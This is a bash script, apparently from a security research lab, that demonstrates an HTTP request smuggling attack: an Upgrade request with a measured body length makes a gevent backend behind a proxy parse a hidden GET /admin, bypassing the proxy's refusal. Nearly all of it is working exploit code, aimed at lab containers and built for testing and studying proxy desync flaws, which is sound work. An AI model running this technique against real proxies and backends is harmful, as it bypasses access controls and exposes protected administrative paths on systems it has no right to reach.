#!/usr/bin/env bash
# lab/proxies/smuggle-demo.sh - by hand, what the probe's proxy scenarios automate: make a
# gevent backend behind a lab proxy serve GET /admin, which the proxy itself refuses.
#
# Idea (lab/proxies/README.md): request R1 carries Connection: Upgrade + Upgrade: TOKEN
# and a body of N bytes; gevent reads that body, then discards N bytes AGAIN from the
# upstream connection. If the proxy sends request R2 over that same upstream connection
# and N is exactly the length of R2's head AS THE BACKEND SEES IT (the proxy rewrites
# heads), gevent eats R2's head and parses R2's body - a complete GET /admin - as a
# request. N is measured first: R2 is sent once alone and the backend log
# (/__lab/requests) says how long its head was. The backend log is reset before each
# step (/__lab/reset) so no desynced connection of an earlier try is still pooled.
#
# Run it inside the lab network, e.g. with the probe image (bash + curl):
#   docker run --rm --network h2c-lab_lab -v "$PWD/lab/proxies/smuggle-demo.sh:/demo.sh:ro" \
#     --entrypoint bash h2c-lab/probe /demo.sh proxy-haproxy-default 8081
set -euo pipefail

usage() {
  cat <<EOF
usage: $(basename "$0") PROXY_HOST PORT [--upgrade TOKEN] [--new-connection] [--backend HOST]
  PROXY_HOST PORT    a lab proxy port in front of a gevent backend (8081 -> backend-gevent)
                     (proxy-CONFIG's backends are its own copies, backend-gevent-CONFIG)
  --upgrade TOKEN    Upgrade value of R1 (default h2c; nghttpx strips h2c, use foo there)
  --new-connection   send R2 on a second client connection (another client, as far as the
                     proxy knows) instead of R1's connection
  --backend HOST     backend whose log measures N (default backend-gevent-CONFIG)
Prints N, the answers, and whether the admin marker came back. Exit 0 = marker seen.
EOF
}

die() { echo "smuggle-demo: $*" >&2; exit 2; }

[ "${1:-}" = -h ] || [ "${1:-}" = --help ] && { usage; exit 0; }
[ $# -ge 2 ] || { usage >&2; exit 2; }
HOST=$1 PORT=$2; shift 2
# proxy-CONFIG reaches its own copy of the backend, backend-gevent-CONFIG (lab-files.py).
UPGRADE=h2c NEWCONN=0 BACKEND=backend-gevent-${HOST#proxy-}
while [ $# -gt 0 ]; do
  case "$1" in
    --upgrade) UPGRADE=${2:?--upgrade needs a token}; shift 2 ;;
    --new-connection) NEWCONN=1; shift ;;
    --backend) BACKEND=${2:?--backend needs a host}; shift 2 ;;
    *) usage >&2; exit 2 ;;
  esac
done
command -v curl >/dev/null || die "needs curl (run it in the probe image)"

TAG="demo$$"
# R2's body: a complete request for the protected path (printf expands the \r\n).
SMUGGLED="GET /admin?$TAG HTTP/1.1\r\nHost: lab\r\nX-Lab-Cell: $TAG-smuggled\r\n\r\n"
SMUGGLED_LEN=$(printf '%b' "$SMUGGLED" | wc -c)
LOG="http://$BACKEND:8080/__lab"

send_r2() {
  printf 'POST /echo HTTP/1.1\r\nHost: lab\r\nX-Lab-Cell: %s-r2\r\nContent-Length: %d\r\n\r\n%b' \
    "$TAG" "$SMUGGLED_LEN" "$SMUGGLED" >&3
}
reset_backend() { curl -fsS -m 3 "$LOG/reset" >/dev/null || die "cannot reach $LOG/reset"; sleep 0.3; }

echo "[1/2] measure N: R2 alone, then its head_len from $LOG/requests"
reset_backend
exec 3<>"/dev/tcp/$HOST/$PORT" || die "cannot connect to $HOST:$PORT"
send_r2
timeout 1 cat <&3 >/dev/null || true
exec 3>&-
N=$(curl -fsS -m 3 "$LOG/requests?cell=$TAG-r2" | grep -o '"head_len": [0-9]*' | tail -1 | grep -o '[0-9]*$') \
  || die "no log entry for $TAG-r2 (is $BACKEND the backend behind $HOST:$PORT?)"
echo "      N=$N"

echo "[2/2] R1 (Connection: Upgrade, Upgrade: $UPGRADE, $N-byte body), then R2$([ $NEWCONN = 1 ] && echo ' on a new connection')"
reset_backend
exec 3<>"/dev/tcp/$HOST/$PORT"
printf 'POST /echo HTTP/1.1\r\nHost: lab\r\nX-Lab-Cell: %s-r1\r\nConnection: Upgrade\r\nUpgrade: %s\r\nContent-Length: %d\r\n\r\n' \
  "$TAG" "$UPGRADE" "$N" >&3
head -c "$N" /dev/zero | tr '\0' x >&3
# Short pauses: nghttpx closes idle backend connections after 2 s (its default).
sleep 0.5
if [ "$NEWCONN" = 1 ]; then
  timeout 0.5 cat <&3 || true
  exec 3>&-
  exec 3<>"/dev/tcp/$HOST/$PORT"
fi
send_r2
ANSWERS=$(timeout 2 cat <&3 | tr -d '\r' || true)
exec 3>&-
printf '%s\n' "$ANSWERS"
if grep -q 'H2C-LAB-ADMIN-MARKER' <<<"$ANSWERS"; then
  echo "RESULT: the backend served GET /admin through $HOST:$PORT (smuggled)"
  exit 0
fi
echo "RESULT: no admin marker (R2 answered as an ordinary request, or refused)"
exit 1
